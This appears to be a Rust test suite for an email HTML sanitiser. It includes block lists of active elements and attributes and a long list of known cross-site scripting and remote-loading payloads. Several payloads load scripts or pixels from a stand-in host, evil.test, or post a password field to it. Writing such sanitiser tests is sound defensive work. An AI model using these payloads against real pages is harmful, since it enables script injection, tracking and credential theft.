//! What must never come out, what must, and that it stays as it is when read again.

use proptest::prelude::*;

use super::{Document, Images};

fn sanitised(html: &str, remote: bool) -> (String, u32) {
    let mut images = Images::new(remote);
    images.add("pic@x".to_owned(), "image/png", b"\x89PNG".to_vec());
    let mut document = Document::new(images);
    document.html(html);
    document.finish()
}

/// The content of the body.
fn body(html: &str) -> String {
    let (document, _) = sanitised(html, false);
    let (_, body) = document.split_once("</head>").unwrap();
    let (_, content) = body.split_once('>').unwrap();
    content.strip_suffix("</body></html>").unwrap().to_owned()
}

/// Elements that run, load, send or change how a browser reads on.
const ACTIVE_ELEMENTS: &[&str] = &[
    "applet",
    "audio",
    "base",
    "button",
    "details",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "image",
    "input",
    "isindex",
    "keygen",
    "link",
    "listing",
    "marquee",
    "math",
    "meta",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "option",
    "param",
    "picture",
    "plaintext",
    "script",
    "select",
    "slot",
    "source",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "xmp",
];

/// Attributes that load, send or name something, handlers aside.
const ACTIVE_ATTRIBUTES: &[&str] = &[
    "action",
    "archive",
    "autofocus",
    "cite",
    "data",
    "download",
    "dynsrc",
    "formaction",
    "http-equiv",
    "id",
    "is",
    "lowsrc",
    "name",
    "ping",
    "poster",
    "slot",
    "srcdoc",
    "srcset",
    "usemap",
    "xlink",
    "xmlns",
];

/// Fails if there is anything in the document that a browser might act on. It knows nothing of the
/// lists that the sanitiser works by.
fn assert_inert(document: &str) {
    let (head, rest) = document.split_once("<style>").unwrap();
    assert_eq!(head.matches('<').count(), 8, "{head}");
    let (style, rest) = rest.split_once("</style>").unwrap();
    let lower = style.to_ascii_lowercase();
    assert!(
        !style.contains('<') && !lower.contains("url(") && !lower.contains("@import"),
        "{style}"
    );
    assert!(
        !lower.contains("expression") && !style.contains('\\') && !lower.contains("fixed"),
        "{style}"
    );
    let mut rest = rest.strip_prefix("</head>").unwrap();
    while let Some((_, behind)) = rest.split_once('<') {
        let (tag, behind) = behind.split_once('>').unwrap();
        rest = behind;
        let mut words = tag.splitn(2, ' ');
        let name = words.next().unwrap().trim_start_matches('/');
        assert!(!ACTIVE_ELEMENTS.contains(&name), "element {name}");
        assert!(
            name.bytes().all(|octet| octet.is_ascii_alphanumeric()),
            "element {name}"
        );
        let mut attributes = words.next().unwrap_or_default();
        while let Some((attribute, behind)) = attributes.split_once("=\"") {
            let attribute = attribute.trim_start();
            let (value, behind) = behind.split_once('"').unwrap();
            attributes = behind;
            let is_active = attribute.starts_with("on") || ACTIVE_ATTRIBUTES.contains(&attribute);
            assert!(!is_active, "attribute {attribute}");
            let value = value.to_ascii_lowercase();
            match attribute {
                "src" | "background" => assert!(value.starts_with("data:image/"), "{value}"),
                "href" => assert!(
                    ["http:", "https:", "mailto:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme)),
                    "{value}"
                ),
                "style" => assert!(
                    !value.contains("url") && !value.contains("expression"),
                    "{value}"
                ),
                _ => {}
            }
        }
        assert!(!attributes.contains(['=', '"', '\'']), "{attributes}");
    }
}

/// Ways to run a script, to load something or to break out, written down over twenty years.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.test/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.test/a 1x'>",
    "<picture><source srcset=https://evil.test/a><img src=https://evil.test/b></picture>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img lowsrc=https://evil.test/a dynsrc=https://evil.test/a>",
    "<body onload=alert(1) background=https://evil.test/a>",
    "<body style=\"background:url(https://evil.test/a)\">",
    "<table background=https://evil.test/a><td background='javascript:x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=https://a.test ping=https://evil.test download>x</a>",
    "<a href='https://a.test\" onclick=\"alert(1)'>x</a>",
    "<a id=document name=body href=https://a.test>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=https://evil.test/a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe src=https://evil.test></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.test/x.swf><param name=x value=y></object>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=x archive=https://evil.test/x.jar></applet>",
    "<video src=https://evil.test/a poster=https://evil.test/b><track src=https://evil.test/c></video>",
    "<audio src=https://evil.test/a autoplay onerror=alert(1)></audio>",
    "<base href=https://evil.test/><a href=/x>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://evil.test/a.css>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<link rel=import href=https://evil.test>",
    "<style>@import url(https://evil.test/a.css);</style>",
    "<style>@import 'https://evil.test/a.css';</style>",
    "<style>body{background:url(https://evil.test/a)}</style>",
    "<style>p{background:\\75rl(https://evil.test/a)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.test/f)}</style>",
    "<style>a[href^=\"x\"]{background:url(https://evil.test/x)}</style>",
    "<style>p{x:expression(alert(1))}</style>",
    "<style>p{behavior:url(x.htc);-moz-binding:url(x)}</style>",
    "<style>p{position:fixed;top:0;left:0;width:100%}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>p{color:red}/*</style><img src=x onerror=alert(1)>*/",
    "<style>p{color:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<p style=\"background:url(https://evil.test/a)\">x",
    "<p style=\"background:url&#40;https://evil.test/a)\">x",
    "<p style=\"width:expression(alert(1))\">x",
    "<p style=\"xss:expr/*XSS*/ession(alert(1))\">x",
    "<p style=\"color:red\" onmouseover=alert(1) ONCLICK=alert(1)>x",
    "<p style='list-style:url(https://evil.test/a)'>x",
    "<p style=\"content:'\\\"><script>alert(1)</script>'\">x",
    "<form action=https://evil.test><input name=password><button formaction=javascript:x>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.test/a>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<select><noembed></select><img src=x onerror=alert(1)></noembed>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><?import namespace=x?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<<script>alert(1)//<</script>",
    "<p title='<script>alert(1)</script>'>x",
    "<p title=\"&quot;><script>alert(1)</script>\">x",
    "<p class='\"><script>alert(1)</script>'>x",
    "<font face='\" onload=alert(1)'>x</font>",
    "<td width='1\" onclick=alert(1)'>x",
    "<div lang='\"><img src=x onerror=alert(1)>'>x",
    "\u{FEFF}<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a\u{C}href=javascript:alert(1)>x</a>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&amp;lt;script&amp;gt;",
    "<img src=\"cid:nowhere\" onerror=alert(1)>",
    "<img src=\"blob:https://evil.test/a\"><img src=\"file:///etc/passwd\">",
    "<a href=\"https://a.test/&quot;onmouseover=&quot;alert(1)\">x</a>",
];

#[test]
fn no_vector_leaves_anything_that_a_browser_acts_on() {
    for vector in VECTORS {
        let (document, _) = sanitised(vector, false);
        assert_inert(&document);
        let (document, _) = sanitised(&format!("<div><table><tr><td>{vector}"), false);
        assert_inert(&document);
    }
}

#[test]
fn no_pair_of_vectors_does_either() {
    for first in VECTORS {
        for second in VECTORS {
            assert_inert(&sanitised(&format!("{first}{second}"), false).0);
        }
    }
}

#[test]
fn what_people_write_is_kept() {
    let table = [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<b>x<i>y</b>z", "<b>x<i>y</i></b>z"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        (
            "<table><tr><td>a<td>b<tr><td>c</table>",
            "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>",
        ),
        ("<td>a</div></td>", "<td>a</td>"),
        (
            "<table width=600 cellpadding=\"0\" bgcolor=#ffffff align=center></table>",
            "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\" align=\"center\"></table>",
        ),
        (
            "<p style=\"color: red; position: fixed\">x",
            "<p style=\"color:red\">x</p>",
        ),
        (
            "<a href=https://a.test/?a=1&amp;b=2>x</a>",
            "<a href=\"https://a.test/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
        ),
        ("1 < 2 & 3 &gt; 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        (
            "<form>Name <input value=x> <button>Go</button></form>",
            "Name  Go",
        ),
        ("<svg><text>gone</text></svg>kept", "kept"),
        ("<o:p>Outlook</o:p>", "Outlook"),
    ];
    for (html, kept) in table {
        assert_eq!(body(html), kept);
    }
}

#[test]
fn images_of_the_mail_are_shown_and_remote_ones_counted() {
    let html =
        "<img src=cid:pic@x alt=a><img src=https://x.test/b width=1><img src=http://x.test/c>";
    let (document, blocked) = sanitised(html, false);
    assert_eq!(blocked, 2);
    assert!(
        document.contains(
            "<img src=\"data:image/png;base64,iVBORw==\" alt=\"a\"><img width=\"1\"><img>"
        )
    );
    assert!(document.contains("img-src data:;"));
    let (document, blocked) = sanitised(html, true);
    assert_eq!(blocked, 0);
    assert!(
        document
            .contains("<img src=\"https://x.test/b\" width=\"1\"><img src=\"https://x.test/c\">")
    );
    assert!(document.contains("img-src data: https:;"));
}

#[test]
fn the_style_of_a_newsletter_is_kept_after_ours() {
    let html = "<style>.h{color:red}</style><style>@media (max-width:600px){.h{width:100%}}</style><p class=h>x";
    let (document, _) = sanitised(html, false);
    assert!(document.contains("/**/.h{color:red}@media (max-width:600px){.h{width:100%}}</style>"));
    assert!(document.contains("<p class=\"h\">"));
}

#[test]
fn only_mail_without_colours_follows_the_reader() {
    let scheme = |html| {
        let (document, _) = sanitised(html, false);
        document.contains("content=\"light dark\"")
    };
    assert!(scheme("<p>plain words about color: red</p>") || scheme("<p>plain words</p>"));
    assert!(!scheme("<p style='color:red'>x"));
    assert!(!scheme("<body bgcolor=white>x"));
}

#[test]
fn depth_and_size_are_bounded() {
    let (document, _) = sanitised(&"<div>".repeat(500_000), false);
    assert!(document.len() < 10_000);
    assert_inert(&document);
    let (document, _) = sanitised(&"<img src=cid:pic@x>".repeat(100_000), false);
    assert!(document.len() < 10_000_000);
    let huge = format!("<p title=\"{}\">x", "&".repeat(3_000_000));
    assert!(sanitised(&huge, false).0.len() < 50_000);
}

proptest! {
    #[test]
    fn a_document_that_is_read_again_stays_as_it_is(
        pieces in prop::collection::vec(prop::sample::select(pieces()), 0..12),
        remote: bool,
    ) {
        let (once, _) = sanitised(&pieces.concat(), remote);
        let (twice, _) = sanitised(&once, remote);
        prop_assert_eq!(once, twice);
    }

    #[test]
    fn nothing_gets_through_in_any_mixture(
        pieces in prop::collection::vec(prop::sample::select(pieces()), 0..12),
        noise in ".{0,20}",
    ) {
        let html: String = pieces.iter().flat_map(|piece| [piece, noise.as_str()]).collect();
        assert_inert(&sanitised(&html, false).0);
    }
}

/// The vectors, and bits of markup to mix them with.
fn pieces() -> Vec<&'static str> {
    let bits = [
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<table>",
        "<tr>",
        "<td>",
        "</td>",
        "</table>",
        "<a href=",
        "https://a.test",
        "<b>",
        "</i>",
        "<ul>",
        "<li>",
        "</ul>",
        "\"",
        "'",
        ">",
        "<",
        "=",
        "/",
        "<!--",
        "-->",
        "&lt;",
        "&#x",
        "style=",
        "color:red",
        "{",
        "}",
        "text",
        "\n",
        "</style>",
        "<style>",
        "<body bgcolor=red>",
        "<pre>\n",
        "<svg>",
        "</svg>",
        "<title>",
        "</title>",
    ];
    VECTORS.iter().copied().chain(bits).collect()
}
